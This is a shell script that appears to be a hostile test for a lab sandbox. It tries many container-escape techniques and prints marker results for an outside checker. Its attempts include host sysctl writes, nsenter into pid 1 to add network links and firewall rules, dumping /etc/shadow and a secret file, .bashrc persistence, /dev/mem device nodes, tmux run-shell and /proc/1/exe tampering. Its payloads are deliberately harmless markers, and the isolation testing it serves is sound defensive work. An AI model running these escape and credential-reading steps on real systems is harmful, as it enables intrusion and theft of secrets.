# hostile: escape the lab as its root. Every attempt prints `TRY name rc=N`
# and the test, outside, checks the host: sysctls, mounts, links, rules,
# files and processes. Payloads are harmless if they work: marker files
# named h4-$LAB_H4_TOKEN, a dummy link and an nft table named after the
# token (the test compares the host's links and rules), and one sysctl,
# core_pattern, that the test reads first and restores if it changed.
try() { name=$1; shift; "$@" >/dev/null 2>&1; echo "TRY $name rc=$?"; }
t=$LAB_H4_TOKEN
mark=h4-$t

# Who the lab's root is, and what it may do.
grep -E '^(CapEff|CapBnd|CapPrm|NoNewPrivs|Seccomp):' /proc/self/status | sed 's/^/STATUS /'
echo "UIDMAP $(cat /proc/self/uid_map)"
grep -E ':(pids|memory)?:' /proc/self/cgroup | sed 's/^/CGROUP /'

# A positive control: a process of the answer's own must be seen.
sleep "$LAB_H4_SELF" &
self=$!

# Host sysctls, through the lab's /proc and through a fresh one.
try remount-proc-sys mount -o remount,rw /proc/sys
try bind-proc-sys-rw sh -c 'mount --bind /proc/sys /proc/sys && mount -o remount,rw,bind /proc/sys'
try core-pattern sh -c "echo 'core.$mark' > /proc/sys/kernel/core_pattern"
mkdir -p /tmp/freshproc
try mount-fresh-proc mount -t proc proc /tmp/freshproc
try core-pattern-fresh sh -c "echo 'core.$mark' > /tmp/freshproc/sys/kernel/core_pattern"
try sysctl-core-pattern sysctl -w "kernel.core_pattern=core.$mark"
try sysrq sh -c 'echo h > /proc/sysrq-trigger'
# Namespaced ones: allowed in the lab, never the host's.
try lab-ip-forward sh -c 'echo 1 > /proc/sys/net/ipv4/ip_forward'
try lab-hostname hostname "$mark"

# What is beneath /proc: unmount it and look, then mount a fresh one.
try umount-proc umount -l /proc
echo "UNCOVERED $(ls /proc 2>/dev/null | grep -c '^[0-9]')"
try mount-proc mount -t proc proc /proc
for p in /proc/[0-9]* /tmp/freshproc/[0-9]*; do
  cmd=$(tr '\0' ' ' < "$p/cmdline" 2>/dev/null)
  case "$cmd" in
    *"sleep $LAB_H4_HOSTSLEEP"*) echo "FOUND-HOST $p" ;;
    *"sleep $LAB_H4_SELF"*) echo "SELF-SEEN $p" ;;
  esac
done
echo "PIDS $(ls /proc | grep -c '^[0-9]')"

# Into pid 1's namespaces, and change links and rules there.
try nsenter-1-net nsenter -t 1 -n true
nsenter -t 1 -n ip link add "h4$t" type veth peer name "h4${t}p" 2>/dev/null; echo "TRY nsenter-link rc=$?"
nsenter -t 1 -n nft add table inet "h4$t" 2>/dev/null; echo "TRY nsenter-nft rc=$?"
nsenter -t 1 -n iptables -A INPUT -m comment --comment "$mark" -j ACCEPT 2>/dev/null; echo "TRY nsenter-iptables rc=$?"
try nsenter-1-mnt-shadow nsenter -t 1 -m cat /etc/shadow
nsenter -t 1 -m cat /etc/shadow 2>/dev/null | sed 's/^/SHADOW /'
# Every other process it sees: enter its namespaces and do the same.
for p in /proc/[0-9]*; do
  pid=${p#/proc/}
  [ "$pid" = "$$" ] && continue
  nsenter -t "$pid" -m -n -u sh -c "ip link add h4${t}e type veth peer name h4${t}f; nft add table inet h4${t}e; hostname h4$t" >/dev/null 2>&1 && echo "ENTERED $pid"
done
# The same in the lab's own namespace: allowed, and only the lab's.
ip link add "h4${t}l" type veth peer name "h4${t}m" 2>/dev/null; echo "TRY lab-link rc=$?"
nft add table inet "h4${t}l" 2>/dev/null; echo "TRY lab-nft rc=$?"

# Files: write markers everywhere, read the shadow file.
for d in /root /etc /tmp /home /var/tmp /run /dev/shm /usr /usr/local "$LAB_H4_DIR" "$LAB_H4_HOME" "$LAB_H4_REALHOME"; do
  touch "$d/$mark" 2>/dev/null; echo "TRY write-$d rc=$?"
done
echo 'touch /tmp/h4-bashrc-ran' >> "$LAB_H4_HOME/.bashrc" 2>/dev/null; echo "TRY bashrc rc=$?"
cat /etc/shadow 2>/dev/null | sed 's/^/SHADOW /'
try read-shadow cat /etc/shadow
try read-proc1-root-shadow cat /proc/1/root/etc/shadow
try read-secret cat "$LAB_H4_DIR/secret"
cat "$LAB_H4_DIR/secret" 2>/dev/null | sed 's/^/SECRET /'
try remount-usr-rw mount -o remount,rw /usr
try remount-usr-rw-bind mount -o remount,rw,bind /usr
try write-usr-after-remount touch "/usr/$mark"
try remount-root-rw mount -o remount,rw /
try umount-usr umount -l /usr
try mknod-char mknod /tmp/h4mem c 1 1
try mknod-block mknod /tmp/h4blk b 8 0
try mount-cgroup2 sh -c 'mkdir -p /tmp/cg && mount -t cgroup2 none /tmp/cg'
try mount-devtmpfs sh -c 'mkdir -p /tmp/dev2 && mount -t devtmpfs none /tmp/dev2'

# Host sockets: the invoker's tmux server, an abstract socket and a TCP
# listener on the host's loopback. tmux's run-shell would run the
# payload outside: a marker file.
try tmux-socket tmux -S "$LAB_H4_TMUX" run-shell "touch $LAB_H4_DIR/tmux-$mark"
try tmux-list ls "$(dirname "$LAB_H4_TMUX")"
try tcp-host-loopback timeout 2 bash -c "echo $mark > /dev/tcp/127.0.0.1/$LAB_H4_PORT"
try tcp-nsenter-loopback timeout 2 nsenter -t 1 -n bash -c "echo $mark > /dev/tcp/127.0.0.1/$LAB_H4_PORT"
if command -v python3 >/dev/null; then
  try abstract-socket timeout 2 python3 -c "import socket,sys; s=socket.socket(socket.AF_UNIX); s.connect('\0$LAB_H4_ABSTRACT'); s.send(b'$mark')"
fi

# The host's nettutor binary, as the lab sees it (/opt/nettutor/bin) and as
# the lab init's exe (runc's CVE-2019-5736): opened for appending, which
# writes nothing even where it is allowed.
try append-nettutor-bin sh -c ': >> /opt/nettutor/bin/nettutor'
try remount-nettutor-bin mount -o remount,rw,bind /opt/nettutor/bin
try append-proc1-exe sh -c ': >> /proc/1/exe'
# A host setting in sysfs, written with the value it already has.
thp=/sys/kernel/mm/transparent_hugepage/enabled
if [ -e "$thp" ]; then
  v=$(grep -o '\[[a-z]*\]' "$thp" | tr -d '[]')
  try sysfs-host-setting sh -c "echo $v > $thp"
fi
# A nested user namespace has a full bounding set again, but only over
# itself: the same host writes fail there too.
unshare -U -r grep '^CapBnd' /proc/self/status 2>/dev/null | sed 's/^/NESTED /'
try nested-core-pattern unshare -U -r sh -c "echo 'core.$mark' > /proc/sys/kernel/core_pattern"
try nested-mount-devtmpfs unshare -U -r -m sh -c 'mkdir -p /tmp/dev3 && mount -t devtmpfs none /tmp/dev3'
try nested-mknod unshare -U -r mknod /tmp/h4mem2 c 1 1

# ptrace and file descriptors of the lab's init.
try proc1-fd ls -l /proc/1/fd/
try proc1-mem dd if=/proc/1/mem of=/dev/null bs=1 count=1 skip=4096
kill "$self" 2>/dev/null
exit 0
